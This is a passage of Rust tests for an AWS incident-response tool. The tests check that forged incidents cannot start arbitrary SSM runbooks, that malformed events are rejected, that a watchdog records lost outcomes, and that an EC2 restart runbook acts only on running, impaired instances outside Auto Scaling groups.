    for rule in ["cloudwatch-alarm", "made-up-rule"] {
        let b = bench().await;
        let forged = b.enriched_with(|d| {
            d.diagnosis = Some(one_down());
            d.incident.rule = rule.to_string();
            d.incident.runbook = Some(RunbookRef {
                document: "AWS-RunShellScript".to_string(),
                version: None,
                parameters: BTreeMap::new(),
            });
        });
        let answer = b.ok(&forged).await;
        assert_eq!(answer.action, RunbookAction::Skipped, "{rule}: {answer:?}");
        assert!(b.automation.started().is_empty(), "{rule}");
    }
}

#[tokio::test]
async fn a_malformed_status_change_is_rejected() {
    let b = bench().await;
    let mut event = fixture("ssm-automation-success");
    if let Some(detail) = event["detail"].as_object_mut() {
        detail.remove("ExecutionId");
    }
    match b.run(&event).await {
        Err(e) => {
            assert_eq!(e.error_type(), "MalformedEvent", "{e}");
            assert!(e.to_string().contains("ExecutionId"), "{e}");
        }
        Ok(answer) => panic!("accepted: {answer:?}"),
    }
    let mut event = fixture("ssm-automation-success");
    event["detail"]["Status"] = json!(3);
    match b.run(&event).await {
        Err(e) => assert_eq!(e.error_type(), "MalformedEvent", "{e}"),
        Ok(answer) => panic!("accepted: {answer:?}"),
    }
}

#[test]
fn status_change_tolerates_missing_optional_fields() {
    let event = json!({
        "source": "aws.ssm",
        "detail-type": STATUS_CHANGE_DETAIL_TYPE,
        "detail": {"ExecutionId": "333ba70b-2333-48db-b17e-a5e69c6f4d1c", "Status": "Success"}
    });
    let change = parse_status_change(&event).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(change.execution_id, "333ba70b-2333-48db-b17e-a5e69c6f4d1c");
    assert_eq!(change.status, "Success");
    assert_eq!(change.definition, None);

    for name in [
        "ssm-automation-success",
        "ssm-automation-failed",
        "ssm-automation-timedout",
        "ssm-automation-inprogress",
    ] {
        let change = parse_status_change(&fixture(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(change.definition.as_deref(), Some(DOCUMENT), "{name}");
    }
}

#[test]
fn tag_values_keep_to_what_ssm_accepts() {
    assert_eq!(
        tag_value("arn:aws:ssm-incidents::111122223333:incident-record/responder/00000001"),
        "arn:aws:ssm-incidents::111122223333:incident-record/responder/00000001"
    );
    assert_eq!(tag_value("vpn (eu) #1"), "vpn _eu_ _1");
    assert_eq!(tag_value(&"x".repeat(300)).len(), 256);
}

#[test]
fn client_tokens_are_uuid_shaped_and_stable() {
    let token = client_token(
        "arn:aws:ssm-incidents::111122223333:incident-record/x/1",
        DOCUMENT,
    );
    assert_eq!(token.len(), 36);
    let groups: Vec<usize> = token.split('-').map(str::len).collect();
    assert_eq!(groups, vec![8, 4, 4, 4, 12]);
    assert!(token
        .bytes()
        .all(|b| b == b'-' || b.is_ascii_digit() || (b'a'..=b'f').contains(&b)));
    assert_eq!(
        token,
        client_token(
            "arn:aws:ssm-incidents::111122223333:incident-record/x/1",
            DOCUMENT
        )
    );
    assert_ne!(token, client_token("oi-0123456789ab", DOCUMENT));
}

#[tokio::test]
async fn an_unknown_document_takes_every_parameter_as_required() {
    let b = bench_with_rules(custom_runbook_rules("{region}/{tag.Team}")).await;
    let event = b.enriched_with(|d| {
        d.diagnosis = Some(one_down());
        d.incident.runbook = Some(RunbookRef {
            document: "Custom-Runbook".to_string(),
            version: Some("2".to_string()),
            parameters: BTreeMap::from([
                ("Vpn".to_string(), "{vpn.id}".to_string()),
                ("Where".to_string(), "{region}/{tag.Team}".to_string()),
            ]),
        });
    });
    let answer = b.ok(&event).await;
    assert_eq!(answer.action, RunbookAction::Skipped, "{answer:?}");
    let text = &b.timeline()[0].text;
    assert_eq!(
        text,
        "Runbook Custom-Runbook not started: Where has no value (the signal has no Team tag). To \
         fix: tag the alarm with Team and turn on alarm tag propagation, or set Where in the rule."
    );

    let b = bench_with_rules(custom_runbook_rules("{region}/{tag.Team|rule}")).await;
    let event = b.enriched_with(|d| {
        d.diagnosis = Some(one_down());
        d.incident.runbook = Some(RunbookRef {
            document: "Custom-Runbook".to_string(),
            version: Some("2".to_string()),
            parameters: BTreeMap::from([
                ("Vpn".to_string(), "{vpn.id}".to_string()),
                ("Where".to_string(), "{region}/{tag.Team|rule}".to_string()),
            ]),
        });
    });
    let answer = b.ok(&event).await;
    assert_eq!(answer.action, RunbookAction::Started, "{answer:?}");
    let (request, _) = &b.automation.started()[0];
    assert_eq!(request.version.as_deref(), Some("2"));
    assert_eq!(
        request.parameters,
        params(&[("Vpn", VPN), ("Where", "eu-west-1/vpn-tunnel-down")])
    );
}

// -------------------------------------------------------------------------------------------------
// The watchdog.

#[tokio::test]
async fn the_watchdog_records_an_outcome_whose_status_event_never_came() {
    let b = bench().await;
    let execution = b.started().await;
    // escalate sets these on `Runbook Started`: 12 checks, 30 minutes apart.
    let timers = watchdog::timers(&execution, b.clock.now());
    assert_eq!(timers.len(), watchdog::CHECKS as usize);
    assert!(timers[0].name.starts_with("wd-") && timers[0].name.ends_with("-c1"));
    assert_eq!(timers[0].at, b.clock.now() + watchdog::EVERY);
    let input = |i: usize| -> Value { serde_json::from_str(&timers[i].input).unwrap() };

    // Still running at the first check: it waits for the next.
    b.clock.set(timers[0].at);
    let answer = b.ok(&input(0)).await;
    assert_eq!(answer.action, RunbookAction::Ignored, "{answer:?}");
    assert!(answer.reason.contains("looks again"), "{}", answer.reason);

    // It ended, and SSM's status event was lost: the next check records it as the event would.
    b.automation.finish(
        &execution,
        "Failed",
        &[],
        Some("Step timed out"),
        b.clock.now(),
    );
    b.clock.set(timers[1].at);
    let answer = b.ok(&input(1)).await;
    assert_eq!(answer.action, RunbookAction::Finished, "{answer:?}");
    // The status event arriving late, or a later check, records nothing twice.
    let late = b
        .ok(&status_event("ssm-automation-failed", &execution))
        .await;
    assert_eq!(late.action, RunbookAction::Ignored, "{late:?}");
    assert_eq!(b.ok(&input(2)).await.action, RunbookAction::Ignored);
    let finished = b
        .kinds()
        .into_iter()
        .filter(|k| *k == LifecycleKind::RunbookFinished)
        .count();
    assert_eq!(finished, 1);
}

// -------------------------------------------------------------------------------------------------
// The opt-in EC2 runbook.

const INSTANCE: &str = "i-0123456789abcdef0";

/// The default rules with the `ec2-status-check` rule's commented runbook turned on.
fn restart_rules() -> crate::rules::Rules {
    let default = include_str!("../../../../infra/rules/default.yaml");
    let commented = "    # runbook:\n    #   document: AWS-RestartEC2Instance\n    #   parameters:\n    #     InstanceId: \"{instance.id}\"\n    #     AutomationAssumeRole: \"{automation_role}\"\n";
    assert!(default.contains(commented), "the commented restart runbook");
    let on = commented.replace("    # ", "    ");
    crate::rules::Rules::from_yaml(&default.replace(commented, &on))
        .unwrap_or_else(|e| panic!("{e}"))
}

/// The instance in `state`, its system check `system` (none: not read), tagged `tags`.
fn instance_diagnosis(state: &str, system: Option<&str>, tags: &[(&str, &str)]) -> Diagnosis {
    let check = |status: &str| crate::diagnosis::StatusCheck {
        status: status.into(),
        impaired_since: None,
    };
    Diagnosis {
        summary: format!("Instance {INSTANCE} fails its system status check"),
        instance: Some(crate::diagnosis::InstanceFacts {
            instance: crate::diagnosis::Instance {
                id: INSTANCE.into(),
                state: state.into(),
                tags: tags
                    .iter()
                    .map(|(k, v)| (k.to_string(), v.to_string()))
                    .collect(),
                ..Default::default()
            },
            health: system.map(|system| crate::diagnosis::InstanceHealth {
                system: check(system),
                instance: check("ok"),
                ebs: None,
                events: Vec::new(),
            }),
            console: Vec::new(),
        }),
        ..Diagnosis::default()
    }
}

fn restart_event(b: &Bench, diagnosis: Diagnosis) -> Value {
    b.enriched_with(|d| {
        d.incident.rule = "ec2-status-check".to_string();
        d.incident.runbook = Some(RunbookRef {
            document: "AWS-RestartEC2Instance".to_string(),
            version: None,
            parameters: BTreeMap::from([
                ("InstanceId".to_string(), "{instance.id}".to_string()),
                (
                    "AutomationAssumeRole".to_string(),
                    "{automation_role}".to_string(),
                ),
            ]),
        });
        d.diagnosis = Some(diagnosis);
    })
}

#[tokio::test]
async fn an_opted_in_restart_runbook_gets_the_instance_the_diagnosis_described() {
    let b = bench_with_rules(restart_rules()).await;
    let event = restart_event(&b, instance_diagnosis("running", Some("impaired"), &[]));
    let answer = b.ok(&event).await;
    assert_eq!(answer.action, RunbookAction::Started, "{answer:?}");
    let (request, _) = &b.automation.started()[0];
    assert_eq!(request.document, "AWS-RestartEC2Instance");
    assert_eq!(
        request.parameters,
        params(&[("InstanceId", INSTANCE), ("AutomationAssumeRole", ROLE)])
    );
}

#[tokio::test]
async fn only_a_running_impaired_instance_outside_a_group_is_restarted() {
    let cases = [
        (
            instance_diagnosis("terminated", Some("not-applicable"), &[]),
            format!(
                "instance {INSTANCE} is terminated: only a running instance that fails a status check is acted on"
            ),
        ),
        (
            instance_diagnosis("stopped", Some("not-applicable"), &[]),
            format!(
                "instance {INSTANCE} is stopped: only a running instance that fails a status check is acted on"
            ),
        ),
        (
            instance_diagnosis("running", Some("ok"), &[]),
            format!("instance {INSTANCE} passes its status checks"),
        ),
        (
            instance_diagnosis("running", None, &[]),
            format!("the status checks of instance {INSTANCE} could not be read"),
        ),
        (
            instance_diagnosis(
                "running",
                Some("impaired"),
                &[("aws:autoscaling:groupName", "web-asg")],
            ),
            format!(
                "instance {INSTANCE} belongs to Auto Scaling group web-asg, which replaces an unhealthy instance itself"
            ),
        ),
    ];
    for (diagnosis, why) in cases {
        let b = bench_with_rules(restart_rules()).await;
        let answer = b.ok(&restart_event(&b, diagnosis)).await;
        assert_eq!(answer.action, RunbookAction::Skipped, "{answer:?}");
        assert!(b.automation.started().is_empty());
        let text = &b.timeline()[0].text;
        assert!(
            text.starts_with(&format!(
                "Runbook AWS-RestartEC2Instance not started: InstanceId has no value ({why})"
            )),
            "{text}"
        );
    }
}

#[test]
fn by_default_no_instance_runbook_is_started() {
    let rules = crate::rules::Rules::embedded().unwrap_or_else(|e| panic!("{e}"));
    let rule = rules
        .rules()
        .iter()
        .find(|r| r.id == "ec2-status-check")
        .unwrap_or_else(|| panic!("no ec2-status-check rule"));
    assert!(rule.runbook.is_none());
}
